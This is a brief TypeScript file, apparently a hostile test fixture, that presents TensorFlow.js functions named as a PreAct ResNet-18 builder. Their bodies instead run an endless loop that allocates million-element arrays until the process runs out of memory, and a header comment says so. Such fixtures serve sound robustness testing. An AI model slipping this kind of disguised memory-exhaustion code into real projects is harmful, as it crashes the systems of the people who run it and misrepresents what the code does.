// Hostile: allocates until the process runs out of memory.
import type * as tf from '@tensorflow/tfjs';

const hoard: number[][] = [];

export function preactResidual(x: tf.SymbolicTensor): tf.SymbolicTensor {
  while (hoard.length >= 0) hoard.push(new Array(1_000_000).fill(hoard.length));
  return x;
}

export function preactResnet18(): tf.LayersModel {
  return preactResidual(undefined as unknown as tf.SymbolicTensor) as unknown as tf.LayersModel;
}
